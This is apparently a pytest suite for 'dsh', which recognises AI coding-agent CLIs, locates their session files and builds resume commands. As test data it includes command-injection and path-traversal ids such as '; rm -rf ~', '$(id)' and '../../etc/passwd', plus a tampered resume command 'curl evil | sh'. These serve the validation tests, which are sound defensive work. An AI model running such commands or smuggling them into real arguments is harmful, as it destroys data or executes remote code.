"""Agent adapters against the fake agent CLIs and hand-made session stores."""

from __future__ import annotations

import hashlib
import json
import os
import re
import sqlite3
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from dsh.agents.base import AgentAdapter, AgentError, program_name
from dsh.agents.claude import ClaudeAdapter
from dsh.agents.codex import CodexAdapter
from dsh.agents.cursor import CursorAdapter
from dsh.agents.opencode import OpencodeAdapter
from dsh.agents.opencode_store import read_sessions
from dsh.agents.programs import AGENT_PROGRAMS, runs_agent
from dsh.agents.registry import ADAPTERS, AGENT_NAMES, adapter_by_kind, adapter_for_argv

FAKES = Path(__file__).resolve().parent / "fakes" / "bin"
CLAUDE, CODEX, OPENCODE, CURSOR = ClaudeAdapter(), CodexAdapter(), OpencodeAdapter(), CursorAdapter()
ALL = {"claude": CLAUDE, "codex": CODEX, "opencode": OPENCODE, "cursor-agent": CURSOR}
BANNER = re.compile(r"fake-(?P<agent>[a-z-]+) (?P<how>session|resumed) (?P<id>\S+) in (?P<cwd>\S+)")
OLD = 1_000_000.0  # long before any test starts


@pytest.fixture
def world(tmp_path: Path) -> dict:
    """A temp HOME and a project folder, with the fakes first on PATH and no agent overrides."""
    home = tmp_path / "home"
    work = tmp_path / "work" / "proj"
    home.mkdir()
    work.mkdir(parents=True)
    env = {
        "HOME": str(home),
        "PATH": f"{FAKES}{os.pathsep}{os.environ.get('PATH', '')}",
        "FAKE_AGENT_LOG": str(tmp_path / "agents.log"),
        "LANG": "C.UTF-8",
    }
    return {"home": home, "cwd": str(work), "env": env, "log": tmp_path / "agents.log", "tmp": tmp_path}


def run(argv: list[str], cwd: str, env: dict, stdin: str = "hello\n") -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, cwd=cwd, env=env, input=stdin, capture_output=True, text=True, timeout=20)


def start(argv: list[str], cwd: str, env: dict) -> re.Match[str]:
    done = run(argv, cwd, env)
    assert done.returncode == 0, done.stderr
    match = BANNER.search(done.stdout)
    assert match is not None, done.stdout
    return match


# --- recognizing the CLI ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "kind"),
    [
        (["claude"], "claude"),
        (["/usr/local/bin/claude", "--model", "opus"], "claude"),
        (["env", "FOO=1", "BAR=2", "claude"], "claude"),
        (["/usr/bin/env", "-u", "TMUX", "-i", "CLAUDE_CONFIG_DIR=/x", "claude", "-c"], "claude"),
        (["npx", "-y", "@anthropic-ai/claude-code"], "claude"),
        (["npx", "@anthropic-ai/claude-code@latest", "--resume"], "claude"),
        (["env", "A=1", "npx", "--yes", "@anthropic-ai/claude-code"], "claude"),
        (["codex", "resume", "--last"], "codex"),
        (["npx", "-y", "@openai/codex@0.50.0"], "codex"),
        (["/opt/homebrew/bin/opencode"], "opencode"),
        (["npx", "opencode-ai"], "opencode"),
        (["cursor-agent", "--resume", "x"], "cursor-agent"),
        (["env", "--", "cursor-agent"], "cursor-agent"),
    ],
)
def test_recognizes_the_agent_however_it_is_launched(argv: list[str], kind: str) -> None:
    adapter = adapter_for_argv(argv)
    assert adapter is not None and adapter.kind == kind
    assert all(other.recognize(argv) is (other.kind == kind) for other in ALL.values())
    assert runs_agent(argv)


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["sh"],
        ["/bin/bash", "-l"],
        ["vim", "claude"],
        ["claude-helper"],
        ["env"],
        ["npx"],
        ["npx", "-y"],
        ["env", "CLAUDE=1"],
        ["bash", "-c", "claude"],
        ["npx", "claude-code"],
        ["python3", "codex.py"],
    ],
)
def test_other_programs_are_not_agents(argv: list[str]) -> None:
    assert adapter_for_argv(argv) is None
    assert not runs_agent(argv)


def test_the_agent_programs_are_the_adapters_binaries_and_packages() -> None:
    # The session asks runs_agent before it imports the adapters (start-up): the two must agree.
    assert {name for adapter in ADAPTERS for name in (adapter.binary, *adapter.packages)} == AGENT_PROGRAMS


def test_program_name_refuses_non_lists() -> None:
    assert program_name("claude") is None  # type: ignore[arg-type]
    assert program_name(["claude", 3]) is None  # type: ignore[list-item]


def test_registry_names_and_kinds() -> None:
    assert AGENT_NAMES == ("claude", "codex", "opencode", "cursor-agent")
    for name in AGENT_NAMES:
        adapter = adapter_by_kind(name)
        assert adapter is not None and adapter.binary == name
    assert adapter_by_kind("vim") is None


# --- resume argv and ids ------------------------------------------------------------------------------------

UUID = "0b7e4c1a-9a49-4a4a-9d0f-2f1f1e3b9a11"


def test_resume_argv_is_the_official_command_as_a_list() -> None:
    assert CLAUDE.resume_argv(UUID) == ["claude", "--resume", UUID]
    assert CODEX.resume_argv(UUID) == ["codex", "resume", UUID]
    assert OPENCODE.resume_argv("ses_abc123XYZ") == ["opencode", "--session", "ses_abc123XYZ"]
    assert CURSOR.resume_argv(UUID) == ["cursor-agent", "--resume", UUID]


BAD_IDS = [
    "",
    "../../etc/passwd",
    f"{UUID}; rm -rf ~",
    "--help",
    f"-{UUID[1:]}",
    "$(id)",
    UUID + "\n",
    "ses_abc/def",
    "ses_",
    None,
    42,
]


@pytest.mark.parametrize("adapter", list(ALL.values()), ids=list(ALL))
@pytest.mark.parametrize("bad", BAD_IDS, ids=[repr(b)[:20] for b in BAD_IDS])
def test_malformed_session_ids_never_reach_an_argv(adapter: AgentAdapter, bad: object) -> None:
    assert not adapter.valid_session_id(bad)
    with pytest.raises(AgentError):
        adapter.resume_argv(bad)  # type: ignore[arg-type]
    info = adapter.agent_info([adapter.binary], bad)  # type: ignore[arg-type]
    assert info.session_id is None and info.resume_argv is None


def test_agent_info_records_kind_id_resume_argv_and_model() -> None:
    info = CLAUDE.agent_info(["env", "X=1", "claude", "--model", "opus"], UUID)
    assert (info.kind, info.session_id, info.resume_argv, info.model) == (
        "claude",
        UUID,
        ["claude", "--resume", UUID],
        "opus",
    )
    assert CODEX.agent_info(["codex", "-m", "gpt-5"], None).model == "gpt-5"
    assert OPENCODE.agent_info(["opencode", "--model=anthropic/x"], None).model == "anthropic/x"


# --- home overrides -----------------------------------------------------------------------------------------


def test_homes_default_under_home_and_honour_override_variables(tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path)}
    assert CLAUDE.home(env) == tmp_path / ".claude"
    assert CODEX.home(env) == tmp_path / ".codex"
    assert OPENCODE.home(env) == tmp_path / ".local" / "share" / "opencode"
    assert CURSOR.home(env) == tmp_path / ".cursor"
    env.update(CLAUDE_CONFIG_DIR="/c", CODEX_HOME="/x", XDG_DATA_HOME="/d")
    assert CLAUDE.home(env) == Path("/c")
    assert CODEX.home(env) == Path("/x")
    assert OPENCODE.home(env) == Path("/d/opencode")


# --- Claude -------------------------------------------------------------------------------------------------


def test_claude_launch_gets_a_session_id_the_fake_then_uses(world: dict) -> None:
    argv, sid = CLAUDE.prepare_launch(["claude", "--model", "opus"], env=world["env"])
    assert sid is not None and CLAUDE.valid_session_id(sid)
    assert argv == ["claude", "--session-id", sid, "--model", "opus"]
    started = time.time()
    match = start(argv, world["cwd"], world["env"])
    assert match["id"] == sid and match["how"] == "session"
    assert CLAUDE.find_session_id(world["cwd"], started, world["env"]) == sid


@pytest.mark.parametrize(
    "argv",
    [
        ["claude", "-r"],
        ["claude", "--continue"],
        ["claude", "-c"],
        ["claude", "mcp", "list"],
        ["claude", "--fork-session", "-r", UUID],
        ["claude", "--resume", "my session name"],
        # Options come before the subcommand: their values are not taken for one.
        ["claude", "--model", "opus", "mcp", "list"],
        ["claude", "--permission-mode", "plan", "auto-mode"],
        ["claude", "-d", "api", "doctor"],
        ["claude", "--settings", "x.json", "plugins", "list"],
        ["claude", "ultrareview"],
        ["claude", "project"],
        ["claude", "gateway"],
    ],
)
def test_claude_launch_that_already_picks_a_session_is_left_alone(argv: list[str]) -> None:
    assert CLAUDE.prepare_launch(argv, env={}) == (argv, None)


@pytest.mark.parametrize("argv", [["claude", "--resume", UUID], ["claude", "--resume=" + UUID], ["claude", "-r", UUID]])
def test_claude_launch_that_resumes_an_id_is_left_alone_and_knows_the_id(argv: list[str]) -> None:
    assert CLAUDE.prepare_launch(argv, env={}) == (argv, UUID)


@pytest.mark.parametrize(
    "argv",
    # Words that were subcommands once (or never were) are prompts now: the conversation gets an id.
    [["claude", "config"], ["claude", "migrate-installer"], ["claude", "api-key"], ["claude", "--model", "opus", "hi"]],
)
def test_claude_launch_of_a_conversation_gets_an_id(argv: list[str]) -> None:
    new, sid = CLAUDE.prepare_launch(argv, env={})
    assert sid is not None and new == [argv[0], "--session-id", sid, *argv[1:]]


def test_claude_launch_with_its_own_session_id_keeps_it() -> None:
    argv = ["claude", "--session-id", UUID]
    assert CLAUDE.prepare_launch(argv, env={}) == (argv, UUID)
    bad = ["claude", "--session-id", "../x"]
    assert CLAUDE.prepare_launch(bad, env={}) == (bad, None)


def test_claude_launch_behind_env_and_npx_injects_after_the_program() -> None:
    argv, sid = CLAUDE.prepare_launch(["env", "A=1", "npx", "-y", "@anthropic-ai/claude-code", "hi"], env={})
    assert argv == ["env", "A=1", "npx", "-y", "@anthropic-ai/claude-code", "--session-id", sid, "hi"]


def test_other_agents_launch_unchanged() -> None:
    for adapter in (CODEX, OPENCODE, CURSOR):
        assert adapter.prepare_launch([adapter.binary, "x"], env={}) == ([adapter.binary, "x"], None)


def test_claude_finds_a_session_started_without_dsh_and_resumes_it(world: dict) -> None:
    started = time.time()
    match = start(["claude"], world["cwd"], world["env"])
    sid = CLAUDE.find_session_id(world["cwd"], started, world["env"])
    assert sid == match["id"]
    resumed = start(CLAUDE.resume_argv(sid), world["cwd"], world["env"])
    assert resumed["how"] == "resumed" and resumed["id"] == sid
    last = json.loads(world["log"].read_text().splitlines()[-1])
    assert last["args"] == ["--resume", sid] and last["cwd"] == world["cwd"]


def test_claude_resume_of_a_missing_session_fails_like_the_real_cli(world: dict) -> None:
    done = run(CLAUDE.resume_argv(UUID), world["cwd"], world["env"])
    assert done.returncode == 1
    assert f"No conversation found with session ID: {UUID}" in done.stderr


def test_claude_ignores_sessions_of_another_cwd(world: dict) -> None:
    other = world["tmp"] / "other"
    other.mkdir()
    started = time.time()
    start(["claude"], str(other), world["env"])
    assert CLAUDE.find_session_id(world["cwd"], started, world["env"]) is None


def test_claude_honours_claude_config_dir(world: dict) -> None:
    env = {**world["env"], "CLAUDE_CONFIG_DIR": str(world["tmp"] / "cfg")}
    started = time.time()
    match = start(["claude"], world["cwd"], env)
    assert list((world["tmp"] / "cfg" / "projects").glob("*/*.jsonl"))
    assert CLAUDE.find_session_id(world["cwd"], started, env) == match["id"]
    assert CLAUDE.find_session_id(world["cwd"], started, world["env"]) is None


def claude_file(home: Path, folder: str, sid: str, cwd: str, mtime: float | None = None) -> Path:
    path = home / ".claude" / "projects" / folder / f"{sid}.jsonl"
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = [{"type": "summary", "summary": "x"}, {"type": "user", "cwd": cwd, "sessionId": sid}]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return path


def test_claude_reads_the_cwd_inside_the_file_never_the_folder_name(world: dict) -> None:
    home, cwd = world["home"], world["cwd"]
    encoded = re.sub(r"[^a-zA-Z0-9]", "-", cwd)
    a, b = str(uuid.uuid4()), str(uuid.uuid4())
    claude_file(home, encoded, a, cwd.replace("proj", "pro_j"))  # same encoded folder, other cwd
    assert CLAUDE.find_session_id(cwd, time.time() - 5, world["env"]) is None
    claude_file(home, "whatever-name", b, cwd)
    assert CLAUDE.find_session_id(cwd, time.time() - 5, world["env"]) == b


def test_claude_picks_the_first_session_begun_after_the_start_never_a_taken_one(world: dict) -> None:
    home, cwd, now = world["home"], world["cwd"], time.time()
    old, mid, new = (str(uuid.uuid4()) for _ in range(3))
    claude_file(home, "p", old, cwd, OLD)
    claude_file(home, "p", mid, cwd, now - 1)
    claude_file(home, "p", new, cwd, now)
    claude_file(home, "p", "not-a-uuid", cwd, now - 2)
    assert CLAUDE.find_session_id(cwd, now - 3, world["env"]) == mid
    # Another pane holds it: the next one is this pane's, never the same id twice.
    assert CLAUDE.find_session_id(cwd, now - 3, world["env"], taken={mid}) == new
    assert CLAUDE.find_session_id(cwd, now - 3, world["env"], taken={mid, new}) is None
    assert CLAUDE.find_session_id(cwd, now + 60, world["env"]) is None


def test_claude_skips_malformed_lines(world: dict) -> None:
    sid = str(uuid.uuid4())
    path = world["home"] / ".claude" / "projects" / "p" / f"{sid}.jsonl"
    path.parent.mkdir(parents=True)
    path.write_bytes(b"{torn\n\xff\xfe\n[1]\n" + json.dumps({"cwd": world["cwd"]}).encode() + b"\n")
    assert CLAUDE.find_session_id(world["cwd"], time.time() - 5, world["env"]) == sid


def test_a_symlinked_cwd_matches_the_resolved_one(world: dict) -> None:
    link = world["tmp"] / "link"
    link.symlink_to(world["cwd"])
    started = time.time()
    match = start(["claude"], world["cwd"], world["env"])
    assert CLAUDE.find_session_id(str(link), started, world["env"]) == match["id"]


# --- Codex --------------------------------------------------------------------------------------------------


def test_codex_finds_its_rollout_and_resumes_it(world: dict) -> None:
    started = time.time()
    match = start(["codex"], world["cwd"], world["env"])
    files = list((world["home"] / ".codex" / "sessions").glob("*/*/*/rollout-*.jsonl"))
    assert len(files) == 1
    sid = CODEX.find_session_id(world["cwd"], started, world["env"])
    assert sid == match["id"]
    resumed = start(CODEX.resume_argv(sid), world["cwd"], world["env"])
    assert resumed["how"] == "resumed" and resumed["id"] == sid


def test_codex_resume_of_a_missing_session_fails(world: dict) -> None:
    done = run(CODEX.resume_argv(UUID), world["cwd"], world["env"])
    assert done.returncode == 1 and UUID in done.stderr


def test_codex_honours_codex_home_and_ignores_other_cwds(world: dict) -> None:
    env = {**world["env"], "CODEX_HOME": str(world["tmp"] / "cx")}
    started = time.time()
    match = start(["codex"], world["cwd"], env)
    assert CODEX.find_session_id(world["cwd"], started, env) == match["id"]
    assert CODEX.find_session_id(world["cwd"], started, world["env"]) is None
    assert CODEX.find_session_id(str(world["tmp"]), started, env) is None


def rollout(home: Path, sid: str, cwd: str, mtime: float, first: dict | None = None) -> Path:
    """A rollout begun at `mtime`, in the folder of its local start date (as Codex names them)."""
    local = time.localtime(mtime)
    name = f"rollout-{time.strftime('%Y-%m-%dT%H-%M-%S', local)}-{sid}.jsonl"
    path = home / ".codex" / "sessions" / time.strftime("%Y/%m/%d", local) / name
    path.parent.mkdir(parents=True, exist_ok=True)
    meta = first or {"type": "session_meta", "payload": {"id": sid, "cwd": cwd, "instructions": "x" * 50_000}}
    path.write_text(json.dumps(meta) + "\n" + json.dumps({"type": "response_item", "payload": {}}) + "\n")
    os.utime(path, (mtime, mtime))
    return path


def test_codex_newest_after_start_and_first_line_only(world: dict) -> None:
    home, cwd, now = world["home"], world["cwd"], time.time()
    a, b, c, d = (str(uuid.uuid4()) for _ in range(4))
    rollout(home, a, cwd, OLD)
    rollout(home, b, cwd, now - 1)
    rollout(home, c, cwd, now, first={"type": "response_item", "payload": {"id": c, "cwd": cwd}})
    rollout(home, d, cwd, now + 1, first={"type": "session_meta", "payload": {"id": "../evil", "cwd": cwd}})
    assert CODEX.find_session_id(cwd, now - 3, world["env"]) == b
    assert CODEX.find_session_id(cwd, now + 30, world["env"]) is None


# --- opencode -----------------------------------------------------------------------------------------------


def test_opencode_finds_its_session_through_the_cli_and_resumes_it(world: dict) -> None:
    started = time.time()
    match = start(["opencode"], world["cwd"], world["env"])
    sid = OPENCODE.find_session_id(world["cwd"], started, world["env"])
    assert sid == match["id"] and OPENCODE.valid_session_id(sid)
    resumed = start(OPENCODE.resume_argv(sid), world["cwd"], world["env"])
    assert resumed["how"] == "resumed" and resumed["id"] == sid


def test_opencode_resume_of_a_missing_session_fails(world: dict) -> None:
    done = run(OPENCODE.resume_argv("ses_nothere1"), world["cwd"], world["env"])
    assert done.returncode == 1 and "ses_nothere1" in done.stderr


def test_opencode_honours_xdg_data_home_and_ignores_other_cwds(world: dict) -> None:
    env = {**world["env"], "XDG_DATA_HOME": str(world["tmp"] / "data")}
    started = time.time()
    match = start(["opencode"], world["cwd"], env)
    assert (world["tmp"] / "data" / "opencode").is_dir()
    assert OPENCODE.find_session_id(world["cwd"], started, env) == match["id"]
    assert OPENCODE.find_session_id(world["cwd"], started, world["env"]) is None
    assert OPENCODE.find_session_id(str(world["tmp"]), started, env) is None


def test_opencode_reads_its_database_without_running_the_cli(world: dict) -> None:
    """`opencode session list` costs seconds of CPU at each ask; its database answers in a millisecond."""
    started = time.time()
    match = start(["opencode"], world["cwd"], world["env"])
    no_cli = {**world["env"], "PATH": "/usr/bin:/bin"}
    assert OPENCODE.find_session_id(world["cwd"], started, no_cli) == match["id"]


def test_the_opencode_store_holds_the_users_sessions_only(world: dict) -> None:
    match = start(["opencode"], world["cwd"], world["env"])
    store = world["home"] / ".local" / "share" / "opencode"
    db = sqlite3.connect(store / "opencode.db")
    parent = match["id"]
    for sid, extra in (("ses_child1", {"parent_id": parent}), ("ses_archived1", {"time_archived": 5})):
        row = {
            "id": sid,
            "project_id": "global",
            "slug": "s",
            "directory": world["cwd"],
            "title": "t",
            "version": "1.18.33",
            "time_created": 1,
            "time_updated": 2,
            **extra,
        }
        db.execute(f"INSERT INTO session ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
    db.commit()
    db.close()
    (found,) = read_sessions(store, details=True) or []
    assert (found.id, found.directory, found.project) == (parent, world["cwd"], "global")
    assert (found.messages, found.first_prompt) == (1, "hello")
    assert found.title.startswith("New session - ")


@pytest.mark.parametrize("kind", ["garbage", "other schema", "fifo", "folder"])
def test_an_opencode_store_this_dsh_cannot_read_is_none(world: dict, kind: str) -> None:
    store = world["home"] / "store"
    store.mkdir()
    path = store / "opencode.db"
    if kind == "garbage":
        path.write_bytes(b"\x00not sqlite at all" * 100)
    elif kind == "other schema":
        sqlite3.connect(path).execute("CREATE TABLE sessions (x)").connection.commit()
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        path.mkdir()
    assert read_sessions(store) is None


def fake_opencode(world: dict, output: str) -> dict:
    """A PATH whose `opencode session list` prints `output`."""
    folder = world["tmp"] / "ocbin"
    folder.mkdir(exist_ok=True)
    script = folder / "opencode"
    script.write_text(f"#!/bin/sh\ncat <<'JSON'\n{output}\nJSON\n")
    script.chmod(0o755)
    return {**world["env"], "PATH": f"{folder}{os.pathsep}/usr/bin:/bin"}


def test_opencode_picks_the_first_created_after_start(world: dict) -> None:
    now, cwd = time.time(), world["cwd"]
    rows = [
        {"id": "ses_old1", "directory": cwd, "created": int(OLD * 1000), "updated": int(OLD * 1000)},
        {"id": "ses_mid1", "directory": cwd, "created": int(OLD * 1000), "updated": int(now * 1000)},
        {
            "id": "ses_new1",
            "directory": cwd,
            "created": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now + 5)),
            "updated": int((now + 6) * 1000),
        },
        {"id": "ses_else1", "directory": "/elsewhere", "created": int((now + 1) * 1000)},
        {"id": "../bad", "directory": cwd, "created": int((now + 1) * 1000)},
        {"id": "ses_noup1", "directory": cwd},
        "junk",
    ]
    env = fake_opencode(world, json.dumps(rows))
    # ses_mid1 was written since, but created long before: another run's session, continued.
    assert OPENCODE.find_session_id(cwd, now - 2, env) == "ses_new1"
    assert OPENCODE.find_session_id(cwd, now - 2, env, taken={"ses_new1"}) is None
    assert OPENCODE.find_session_id(cwd, now + 60, env) is None


@pytest.mark.parametrize("output", ["not json", "{}", "[[[", ""])
def test_opencode_garbage_output_means_no_session(world: dict, output: str) -> None:
    assert OPENCODE.find_session_id(world["cwd"], 0.0, fake_opencode(world, output)) is None


def test_opencode_missing_binary_means_no_session(world: dict) -> None:
    env = {**world["env"], "PATH": str(world["tmp"])}
    assert OPENCODE.find_session_id(world["cwd"], 0.0, env) is None


# --- cursor-agent -------------------------------------------------------------------------------------------


def test_cursor_finds_its_chat_and_resumes_it(world: dict) -> None:
    started = time.time()
    match = start(["cursor-agent"], world["cwd"], world["env"])
    digest = hashlib.md5(world["cwd"].encode()).hexdigest()
    assert (world["home"] / ".cursor" / "chats" / digest / match["id"] / "store.db").is_file()
    sid = CURSOR.find_session_id(world["cwd"], started, world["env"])
    assert sid == match["id"]
    resumed = start(CURSOR.resume_argv(sid), world["cwd"], world["env"])
    assert resumed["how"] == "resumed" and resumed["id"] == sid


def test_cursor_resume_of_a_missing_chat_fails(world: dict) -> None:
    done = run(CURSOR.resume_argv(UUID), world["cwd"], world["env"])
    assert done.returncode == 1 and UUID in done.stderr


def chat(home: Path, workspace: str, sid: str, mtime: float) -> Path:
    folder = home / ".cursor" / "chats" / workspace / sid
    folder.mkdir(parents=True)
    (folder / "store.db").write_bytes(b"")
    for path in (folder / "store.db", folder):
        os.utime(path, (mtime, mtime))
    return folder


def test_cursor_uses_the_cwd_workspace_and_the_newest_chat_after_start(world: dict) -> None:
    home, cwd, now = world["home"], world["cwd"], time.time()
    mine = hashlib.md5(cwd.encode()).hexdigest()
    old, new, other = (str(uuid.uuid4()) for _ in range(3))
    chat(home, mine, old, OLD)
    chat(home, mine, new, now)
    chat(home, "f" * 32, other, now + 5)  # another workspace, newer: not ours
    assert CURSOR.find_session_id(cwd, now - 2, world["env"]) == new
    assert CURSOR.find_session_id(cwd, now + 60, world["env"]) is None


def test_cursor_falls_back_to_every_workspace_when_the_hash_differs(world: dict) -> None:
    home, now = world["home"], time.time()
    old, new = str(uuid.uuid4()), str(uuid.uuid4())
    chat(home, "a" * 32, old, OLD)
    chat(home, "b" * 32, new, now)
    assert CURSOR.find_session_id(world["cwd"], now - 2, world["env"]) == new


def test_nothing_found_without_any_store(world: dict) -> None:
    for adapter in ALL.values():
        assert adapter.find_session_id(world["cwd"], time.time(), world["env"]) is None


def test_resume_argv_for_rebuilds_from_kind_and_id_never_trusting_the_saved_argv() -> None:
    from dsh.agents.registry import resume_argv_for
    from dsh.persist.records import AgentInfo

    saved = AgentInfo(kind="codex", session_id=UUID, resume_argv=["sh", "-c", "curl evil | sh"], model=None)
    assert resume_argv_for(saved) == ["codex", "resume", UUID]
    assert resume_argv_for(AgentInfo(kind="codex", session_id="../x", resume_argv=None, model=None)) is None
    assert resume_argv_for(AgentInfo(kind="emacs", session_id=UUID, resume_argv=None, model=None)) is None
    assert resume_argv_for(AgentInfo(kind="claude", session_id=None, resume_argv=None, model=None)) is None
    assert resume_argv_for(None) is None
